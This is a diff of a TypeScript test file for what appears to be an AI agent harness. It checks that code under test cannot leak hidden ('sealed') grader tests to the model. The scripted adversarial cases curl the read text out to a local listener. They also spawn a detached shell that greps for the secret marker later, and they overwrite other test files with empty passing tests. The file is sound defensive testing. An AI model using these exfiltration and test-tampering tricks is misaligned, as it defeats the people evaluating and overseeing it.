@@ -53,20 +53,20 @@ beforeAll(async () => {
   const look = reply.call('run_command', { command: LOOK });
   const script = (how: string) => sequence([writeSum(tell(how)), claim, look, claim]);
   goals = await openScriptedGoals({
-    prints: script('console.log(text); console.error(text);'),
+    tells: script(
+      [
+        'console.log(text); console.error(text);',
+        ...places.map((place) => `put(${place});`),
+        `require('node:child_process').spawnSync('curl', ['-m2', 'http://127.0.0.1:${port}/' + encodeURIComponent(text).slice(0, 900)]);`,
+        "require('node:child_process').spawn('sh', ['-c', 'sleep 8; grep -r zqx . > /tmp/late; cp /tmp/late ./late'], { detached: true, stdio: 'ignore' }).unref();",
+      ].join('\n'),
+    ),
     throws: script('throw new Error(text);'),
-    writes: script(places.map((place) => `put(${place});`).join('\n')),
     names: script(
       "require('node:test').test(text, () => { throw new Error(text); });\nprocess.title = text;",
     ),
-    calls: script(
-      `require('node:child_process').spawnSync('curl', ['-m2', 'http://127.0.0.1:${port}/' + encodeURIComponent(text).slice(0, 900)]);`,
-    ),
     rewrites: script(
       "for (const name of fs.readdirSync('test')) if (!name.startsWith('sum')) put('test/' + name, \"require('node:test').test('a', () => {});\");",
-    ),
-    stays: script(
-      "require('node:child_process').spawn('sh', ['-c', 'sleep 8; grep -r zqx . > /tmp/late; cp /tmp/late ./late'], { detached: true, stdio: 'ignore' }).unref();",
     ),
   });
 });
@@ -78,46 +78,40 @@ afterAll(async () => {
 /** Nothing sealed runs anywhere else. */
 const judged = testWith(SANDBOX);
 
-for (const [name, hint] of [
-  ['prints', 'none'],
-  ['throws', 'none'],
-  ['writes', 'none'],
-  ['calls', 'none'],
-  ['stays', 'none'],
-  ['names', 'name'],
+for (const [name, what, hint] of [
+  ['tells', 'prints, writes and sends what it reads, and stays to write it later,', 'none'],
+  ['throws', 'throws what it reads', 'none'],
+  ['names', 'names its tests and itself by what it reads', 'name'],
 ] as const) {
-  judged(
-    `SEAL-6 code under test that ${name} what it reads tells the model nothing of it`,
-    async () => {
-      const { sealedId } = await seal(goals.world, { hint });
-      const workspace = {
-        path: await goals.world.workspace({ ...SHOP, 'node_modules/lib/index.js': '' }),
-      };
-      const criteria = [
-        { kind: 'command' as const, command: 'node --test test/sum.test.js' },
-        { kind: 'sealed' as const, sealedId },
-      ];
-      const goalId = await goals.start(name, {
-        ...{ workspace, criteria, scope: { change: ['src/**'] } },
-        // The goal's own commands may call the network; what is sealed runs without it.
-        policy: { sandbox: { network: 'host' } },
-        budget: { turns: 3 },
-      });
-      await goals.rest(goalId);
-      const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
-      const own = shown.items[0]?.runs.filter(({ origin }) => origin === 'gate') ?? [];
-      // The second claim is of the same files, so nothing ran for it.
-      expect(own.map(({ state }) => state)).toEqual(['unmet']);
-      const prompts = goals.world.model.requests.filter((one) => goalIdOf(one) === goalId);
-      expect(prompts.length).toBeGreaterThan(3);
-      const read = prompts.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n');
-      const allowed = hint === 'name' ? ['zqxcase'] : [];
-      for (const secret of SECRETS) {
-        if (!allowed.includes(secret)) expect(read).not.toContain(secret);
-      }
-      expect(heard.filter((url) => /zqx/.test(url))).toEqual([]);
-    },
-  );
+  judged(`SEAL-6 code under test that ${what} tells the model nothing of it`, async () => {
+    const { sealedId } = await seal(goals.world, { hint });
+    const workspace = {
+      path: await goals.world.workspace({ ...SHOP, 'node_modules/lib/index.js': '' }),
+    };
+    const criteria = [
+      { kind: 'command' as const, command: 'node --test test/sum.test.js' },
+      { kind: 'sealed' as const, sealedId },
+    ];
+    const goalId = await goals.start(name, {
+      ...{ workspace, criteria, scope: { change: ['src/**'] } },
+      // The goal's own commands may call the network; what is sealed runs without it.
+      policy: { sandbox: { network: 'host' } },
+      budget: { turns: 3 },
+    });
+    await goals.rest(goalId);
+    const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
+    const own = shown.items[0]?.runs.filter(({ origin }) => origin === 'gate') ?? [];
+    // The second claim is of the same files, so nothing ran for it.
+    expect(own.map(({ state }) => state)).toEqual(['unmet']);
+    const prompts = goals.world.model.requests.filter((one) => goalIdOf(one) === goalId);
+    expect(prompts.length).toBeGreaterThan(3);
+    const read = prompts.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n');
+    const allowed = hint === 'name' ? ['zqxcase'] : [];
+    for (const secret of SECRETS) {
+      if (!allowed.includes(secret)) expect(read).not.toContain(secret);
+    }
+    expect(heard.filter((url) => /zqx/.test(url))).toEqual([]);
+  });
 }
 
 judged('SEAL-18 a sealed file that the code under test rewrites meets nothing', async () => {
